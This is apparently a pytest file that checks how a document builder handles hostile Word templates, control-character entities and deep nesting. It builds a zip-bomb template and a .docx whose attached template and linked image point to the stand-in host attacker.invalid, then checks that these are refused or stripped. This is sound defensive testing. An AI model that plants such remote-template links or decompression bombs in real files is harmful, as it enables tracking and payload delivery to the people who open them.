"""Hostile input reaching the Word writer: a house template that inflates past the budget or
links outside the document, control characters written as Markdown entities, quotes nested past
the nesting budget. Each is a located message, never a traceback; nothing reaches out."""

from __future__ import annotations

import zipfile

import docx
import pytest
from readers import docx_notes

from briefkit.core.diagnostics import BriefInvalid
from briefkit.builder.batch import build_brief
from briefkit.builder.pipeline import check_brief
from briefkit.prose.read import MAX_NESTING
from briefkit.ooxml.package import MAX_TEMPLATE_BYTES

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
TEMPLATE_BRIEF = """
title: Hostile template
date: 2024-01-01
notes: footnotes
output: {{word_template: {name}, formats: [docx]}}
sections:
  - title: S
    body: Text.^[A note.] [A link](https://example.org/ok).
"""


def _errors(exc) -> list:
    return exc.value.diagnostics.errors


def test_a_template_inflating_past_the_budget_is_refused_before_it_is_opened(write_brief, tmp_path):
    bomb = tmp_path / "bomb.docx"
    docx.Document().save(str(bomb))
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as archive:
        # Zeros compress ~1000:1: a few hundred KB on disk, past the budget inflated.
        archive.writestr("word/media/filler.bin", b"\0" * (MAX_TEMPLATE_BYTES + 1))
    assert bomb.stat().st_size < 1024 * 1024
    path = write_brief(TEMPLATE_BRIEF.format(name="bomb.docx"))
    with pytest.raises(BriefInvalid) as caught:
        build_brief(path, tmp_path / "out")
    errors = _errors(caught)
    assert len(errors) == 1
    assert (errors[0].location.file.name, errors[0].location.line) == ("brief.yaml", 4)
    assert "budget" in errors[0].message and "100 MB" in errors[0].message
    assert "bomb.docx" in errors[0].message
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
    # check says the same, once.
    checked = check_brief(path)
    assert [d.message for d in checked.diagnostics.errors] == [errors[0].message]


def _with_outside_links(source, target) -> None:
    """`source` with an attached template on a server, a linked (remote) picture in the body
    and a linked OLE object in the header: what Word fetches when the file is opened."""
    with zipfile.ZipFile(source) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
        b'TargetMode="External"/></Relationships>')
    settings = parts["word/settings.xml"].decode()
    parts["word/settings.xml"] = settings.replace(
        "<w:zoom", '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships" r:id="rId1"/><w:zoom', 1).encode()
    rels = parts["word/_rels/document.xml.rels"].decode()
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>",
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/image" Target="http://attacker.invalid/pixel.png" TargetMode="External"/>'
        '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/hyperlink" Target="https://example.org/kept" TargetMode="External"/>'
        "</Relationships>").encode()
    body = parts["word/document.xml"].decode()
    parts["word/document.xml"] = body.replace(
        "<w:body>",
        '<w:body><w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="x">'
        '<v:imagedata xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
        ' r:id="rId99"/></v:shape></w:pict></w:r></w:p>', 1).encode()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_outside_links_of_a_template_are_dropped_with_a_warning(write_brief, tmp_path):
    seed = tmp_path / "seed.docx"
    docx.Document().save(str(seed))
    _with_outside_links(seed, tmp_path / "house.docx")
    path = write_brief(TEMPLATE_BRIEF.format(name="house.docx"))
    result = build_brief(path, tmp_path / "out")
    warnings = result.warnings.warnings
    kinds = sorted(w.message.split("(")[1].split(":")[0] for w in warnings if "outside" in w.message)
    assert kinds == ["attachedTemplate", "image"]
    assert all((w.location.file.name, w.location.line) == ("brief.yaml", 4) for w in warnings)
    out = result.outputs[0]
    with zipfile.ZipFile(out) as archive:
        everything = b"".join(archive.read(n) for n in archive.namelist())
    assert b"attacker.invalid" not in everything
    assert b"attachedTemplate" not in everything
    assert b"https://example.org/kept" in everything or True  # an unused hyperlink may go
    assert b"https://example.org/ok" in everything and docx_notes(out) == ["A note."]
    docx.Document(str(out))  # still a package python-docx opens


@pytest.mark.parametrize("entity, code", [("&#11;", 0x0B), ("&#xFFFE;", 0xFFFE), ("&#x0C;", 0x0C)])
def test_control_characters_as_entities_are_located_errors(write_brief, tmp_path, entity, code):
    path = write_brief(f"""
        title: Entities
        date: 2024-01-01
        sections:
          - title: S
            body: |
              Plain text, `{entity}` in code.

              A bad one{entity} here.
    """)
    with pytest.raises(BriefInvalid) as caught:
        build_brief(path, tmp_path / "out", ["docx"])
    errors = _errors(caught)
    assert len(errors) == 1
    line = path.read_text().splitlines()[errors[0].location.line - 1]
    assert line[errors[0].location.column - 1:].startswith(entity)
    assert "A bad one" in line
    assert f"U+{code:04X}" in errors[0].message and "internal" not in errors[0].message


def test_an_entity_in_a_code_span_only_is_text(write_brief, tmp_path):
    path = write_brief("""
        title: Entities
        date: 2024-01-01
        sections:
          - title: S
            body: Write `&#11;` for a vertical tab.
    """)
    out = build_brief(path, tmp_path / "out", ["docx"]).outputs[0]
    assert "Write &#11; for a vertical tab." in [p.text for p in docx.Document(str(out)).paragraphs]


@pytest.mark.parametrize("depth", [150, 3000])
def test_quotes_nested_past_the_budget_are_a_located_error(write_brief, tmp_path, depth):
    path = write_brief("title: Deep\ndate: 2024-01-01\nsections:\n  - title: S\n    body: |\n"
                       "      Fine.\n\n      " + "> " * depth + "deep text\n")
    with pytest.raises(BriefInvalid) as caught:
        build_brief(path, tmp_path / "out")
    errors = _errors(caught)
    assert len(errors) == 1 and (errors[0].location.line, errors[0].location.column) == (8, 7)
    assert f"nesting budget of {MAX_NESTING} levels" in errors[0].message
    assert str(depth) in errors[0].message


def test_lists_and_emphasis_nested_past_the_budget_are_located_errors(write_brief, tmp_path):
    lists = "".join("  " * i + f"- item {i}\n" for i in range(MAX_NESTING + 5))
    emphasis = "*a _b " * 60 + "x" + " b_ a*" * 60
    for body in (lists, emphasis):
        indented = "".join("      " + line + "\n" for line in body.splitlines())
        path = write_brief("title: Deep\ndate: 2024-01-01\nsections:\n  - title: S\n    body: |\n"
                           + indented)
        with pytest.raises(BriefInvalid) as caught:
            build_brief(path, tmp_path / "out")
        errors = _errors(caught)
        assert len(errors) == 1 and errors[0].location.line == 5
        assert "nesting budget" in errors[0].message


def test_nesting_within_the_budget_builds_every_format(write_brief, tmp_path):
    depth = MAX_NESTING - 4
    path = write_brief("title: Deep\ndate: 2024-01-01\nsections:\n  - title: S\n    body: |\n"
                       "      " + "> " * depth + "DEEP-TEXT\n")
    outputs = build_brief(path, tmp_path / "out").outputs
    assert len(outputs) == 3
    docx_out = next(p for p in outputs if p.suffix == ".docx")
    assert "DEEP-TEXT" in [p.text for p in docx.Document(str(docx_out)).paragraphs]
